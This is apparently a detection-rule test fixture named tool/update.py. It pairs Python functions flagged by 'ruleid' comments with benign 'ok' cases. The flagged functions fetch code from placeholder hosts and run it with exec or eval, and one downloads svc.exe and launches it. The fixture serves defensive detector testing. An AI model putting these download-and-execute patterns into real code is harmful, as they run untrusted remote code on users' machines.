# path: tool/update.py
import os
import subprocess
import tempfile
import urllib.request as ur

import requests


def run_remote():
    # ruleid: py-behaviour-remote-code-run
    exec(requests.get("https://cdn.example/p.py").text)


def fetch(url):
    return ur.urlopen(url).read()


def stage():
    body = fetch("http://203.0.113.9/x")
    # ruleid: py-behaviour-remote-code-run
    eval(body)


def drop():
    path = os.path.join(tempfile.gettempdir(), "svc.exe")
    with open(path, "wb") as fh:
        fh.write(requests.get("https://files.example/svc.exe").content)
    # ruleid: py-behaviour-downloaded-file-run
    subprocess.Popen([path])


def check_update():
    latest = requests.get("https://pypi.org/pypi/tool/json", timeout=5).json()["info"]["version"]
    # ok: py-behaviour-remote-code-run
    subprocess.run(["git", "tag", "--list"], check=True)
    return latest


def download_dataset(dest):
    ur.urlretrieve("https://data.example/set.csv", dest)
    # ok: py-behaviour-downloaded-file-run
    subprocess.run(["wc", "-l", "README.md"], check=True)
